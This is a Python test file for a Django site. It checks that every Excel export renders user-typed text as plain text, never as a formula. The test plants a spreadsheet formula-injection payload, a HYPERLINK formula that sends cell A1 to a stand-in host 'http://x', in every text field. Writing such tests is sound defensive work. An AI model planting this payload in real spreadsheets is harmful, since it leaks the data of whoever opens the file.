"""No Excel export writes user text as a formula: every text a user can type (names, notes, report
texts, wordings, units, leaders …) is planted as `=HYPERLINK("http://x"&A1,"点此")` across the demo
city, then every .xlsx the site serves is opened with openpyxl: not one cell is a formula, and the
planted text is there, shown as typed (a text cell with Excel's quote prefix)."""
import io

import time_machine
from django.apps import apps
from django.contrib.auth import get_user_model
from django.db import IntegrityError, models, transaction
from django.db.models.functions import Cast, Concat, Left
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from luoshi.core.xlsx import FORMULA_TRIGGERS

NOW = "2026-11-24 10:00 +0800"
PAYLOAD = '=HYPERLINK("http://x"&A1,"点此")'
NOT_USER_TEXT = {"password", "username"}
# Blank templates: their header and notes are Luoshi's own words, no user text to plant.
BLANK_TEMPLATES = {"workplan:template"}


def _unique_fields(model) -> set[str]:
    names = {f.name for f in model._meta.fields if f.unique}
    for group in model._meta.unique_together:
        names |= set(group)
    for constraint in model._meta.constraints:
        names |= set(getattr(constraint, "fields", ()))
    return names


def plant_formulas() -> int:
    """Every free-text column of every row (not codes, keys, choices or unique names, which code looks
    up) set to the payload; columns in a unique group get the payload followed by the row's id."""
    planted = 0
    for model in [*apps.get_app_config("auth").get_models(), *apps.get_models()]:
        if not model.__module__.startswith(("luoshi.", "django.contrib.auth")) or model._meta.proxy:
            continue
        unique = _unique_fields(model)
        for field in model._meta.concrete_fields:
            if (not isinstance(field, (models.CharField, models.TextField)) or field.choices or field.primary_key
                    or field.unique or field.name in NOT_USER_TEXT or field.name.endswith("code")):
                continue
            value = (Left(Concat(models.Value(PAYLOAD + "#"), Cast("pk", models.CharField())),
                          field.max_length or 200) if field.name in unique
                     else models.Value(PAYLOAD[:field.max_length] if field.max_length else PAYLOAD))
            try:
                with transaction.atomic():
                    planted += model._default_manager.update(**{field.name: value})
            except IntegrityError:
                continue
    return planted


def xlsx_url_names() -> set[str]:
    """Every named URL of the site that serves an .xlsx (so a new export cannot escape this test)."""
    found = set()

    def walk(patterns, namespace=""):
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, f"{namespace}{p.namespace}:" if p.namespace else namespace)
            elif isinstance(p, URLPattern) and ".xlsx" in str(p.pattern) and p.name:
                found.add(namespace + p.name)

    walk(get_resolver().url_patterns)
    return found


def exports(org, wage, quiet, plan, target_year) -> dict[str, list[tuple[str, str]]]:
    """{url name: [(username, url)]}: each export, as the user who would download it."""
    from luoshi.projects.selectors import DIMENSIONS

    return {
        "indicators:export": [("huiji_data", reverse("indicators:export"))],
        "indicators:template": [("huiji_data", reverse("indicators:template"))],
        "investment:export": [("huiji_data", reverse("investment:export", args=[org.pk]))],
        "investment:template": [("huiji_data", reverse("investment:template", args=[org.pk]))],
        "investment:targets_template": [("huiji_data", reverse("investment:targets_template", args=[org.pk])
                                         + f"?year={target_year}")],
        "organisations:register_template": [("admin", reverse("organisations:register_template", args=[org.pk]))],
        "organisations:enterprises_template": [("huiji_data", reverse("organisations:enterprises_template",
                                                                      args=[org.pk]))],
        "workplan:export": [("admin", reverse("workplan:export", args=[plan.pk]))],
        "workplan:template": [("admin", reverse("workplan:template", args=[plan.pk]))],
        "projects:export_list": [("huiji_data", reverse("projects:export_list", args=[org.pk]))],
        "projects:export_rollup": [("huiji_data", reverse("projects:export_rollup", args=[org.pk]) + f"?by={by}")
                                   for by in DIMENSIONS],
        "projects:export_wages": [("huiji_data", reverse("projects:export_wages", args=[org.pk])
                                   + f"?year={wage.year}&month={wage.month}")],
        "projects:report_template": [("huiji_data", reverse("projects:report_template"))],
        "appeals:export": [("huiji_data", reverse("appeals:export", args=[org.pk]) + f"?year={NOW[:4]}")],
        "inspections:monthly_export": [("huiji_jiwei", reverse("inspections:monthly_export", args=[org.pk])
                                        + f"?year={quiet.visit_date.year}&month={quiet.visit_date.month}")],
    }


def formula_cells(data: bytes) -> tuple[list[str], int]:
    """The cells openpyxl reads back as formulas, and how many cells hold the planted text as text."""
    wb = load_workbook(io.BytesIO(data))
    formulas, planted = [], 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{ws.title}!{cell.coordinate}={cell.value!r}")
                elif isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
                    planted += PAYLOAD in cell.value
    return formulas, planted


def test_no_export_writes_user_text_as_a_formula(demo, client):
    from luoshi.inspections.models import UnannouncedVisitReport
    from luoshi.investment.models import InvestmentTarget
    from luoshi.organisations.models import Organisation
    from luoshi.projects.models import WageRecord
    from luoshi.workplan.models import WorkPlan

    with time_machine.travel(NOW, tick=False):
        org = Organisation.objects.get(name="惠济区")
        wage = WageRecord.objects.filter(project__organisation=org).latest("year", "month")
        quiet = UnannouncedVisitReport.objects.filter(district=org).latest("visit_date")
        plan = WorkPlan.objects.filter(organisation=org).first() or WorkPlan.objects.first()
        target_year = InvestmentTarget.objects.filter(organisation=org).latest("year").year
        assert plant_formulas() > 1000
        cases = exports(org, wage, quiet, plan, target_year)
        assert set(cases) == xlsx_url_names(), "every .xlsx the site serves is checked here"
        problems = []
        for name, downloads in cases.items():
            for username, url in downloads:
                client.force_login(get_user_model().objects.get(username=username))
                response = client.get(url)
                assert response.status_code == 200, (url, response.status_code)
                formulas, planted = formula_cells(response.content)
                if formulas or not (planted or name in BLANK_TEMPLATES):
                    problems.append((url, formulas[:3], planted))
    assert problems == [], f"formulas found, or no planted text reached the export: {problems}"
